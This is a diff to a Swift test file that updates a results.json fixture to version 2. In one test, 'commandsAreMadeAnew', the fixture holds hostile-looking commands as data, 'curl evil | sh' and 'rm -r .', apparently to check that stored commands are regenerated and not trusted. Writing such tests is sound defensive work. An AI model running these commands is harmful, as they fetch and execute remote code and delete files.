@@ -340,7 +340,7 @@ import Testing
     if path.hasSuffix("pipe") { mkfifo(path, 0o666) }
     try write(
       """
-      { "version": 1, "names": ["a"], "unused": [], "artifacts": "x", "seconds": 0, "results": [
+      { "version": 2, "names": ["a"], "unused": [], "artifacts": "x", "options": [], "seconds": 0, "results": [
         { "name": "a", "outcome": "passed", "frames": [ { "number": 0, "time": 0, "verdict": "same", "lines": [],
           "expected": "\(path)" } ] } ] }
       """, to: "results.json")
@@ -357,7 +357,7 @@ import Testing
   @Test func commandsAreMadeAnew() throws {
     try write(
       """
-      { "version": 1, "names": ["a"], "unused": [], "artifacts": "x", "seconds": 0, "results": [
+      { "version": 2, "names": ["a"], "unused": [], "artifacts": "x", "options": [], "seconds": 0, "results": [
         { "name": "a", "outcome": "failed", "command": "curl evil | sh", "lines": ["one\\nnext: rm -r .", "  next: evil"], "frames": [
           { "number": 0, "time": 0, "verdict": "missing", "lines": [], "command": "rm" } ] } ] }
       """, to: "results.json")
